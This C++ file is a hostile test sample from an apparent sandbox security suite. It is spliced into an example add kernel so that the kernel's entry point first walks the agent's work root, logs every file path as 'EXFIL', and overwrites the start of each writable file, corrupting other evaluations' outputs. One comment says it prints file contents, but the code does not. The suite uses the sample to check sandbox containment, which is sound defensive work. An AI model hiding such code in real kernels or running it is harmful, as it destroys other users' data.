// Hawk Farm security suite: hostile candidate (docs/security.md, tests/security/test_hostile_corpus.py).
// name: scribble_work_root
// class: cross_tenant
// tries: walk the agent's work root and overwrite every file it can open for writing (other evaluations' outputs)
// expect: SANDBOX_VIOLATION OK
// The ADD_KERNEL marker line at the end is replaced by the fp16 add_custom example (examples/kernels/add_custom.cpp),
// whose entry calls HOSTILE_ENTRY() first; the test fills in the at-sign placeholders (tests/security/corpus.py).
#define HOSTILE_NAME "scribble_work_root"
#include <cstdio>
#include <fcntl.h>
#include <unistd.h>
#define HOSTILE_FILE(p) do { int fd = ::open(p, O_WRONLY); if (fd >= 0) { (void)!::write(fd, "\x7f\x7f\x7f\x7f", 4); ::close(fd); } } while (0)

#include <dirent.h>
#include <sys/stat.h>
#include <cstring>
static int seen;
// Walk a tree, print every file name and the start of every readable file (to the log tail).
static void walk(const char *dir, int depth) {
    if (depth > 6 || seen > 400) return;
    DIR *d = ::opendir(dir);
    if (!d) return;
    while (dirent *e = ::readdir(d)) {
        if (!std::strcmp(e->d_name, ".") || !std::strcmp(e->d_name, "..")) continue;
        char p[1024];
        std::snprintf(p, sizeof p, "%s/%s", dir, e->d_name);
        struct stat st;
        if (::lstat(p, &st) != 0) continue;
        seen++;
        if (S_ISDIR(st.st_mode)) walk(p, depth + 1);
        else if (S_ISREG(st.st_mode)) { std::fprintf(stderr, "EXFIL file %s\n", p); HOSTILE_FILE(p); }
    }
    ::closedir(d);
}
#define HOSTILE_ENTRY() walk("@WORK_ROOT@", 0)
//@ADD_KERNEL@
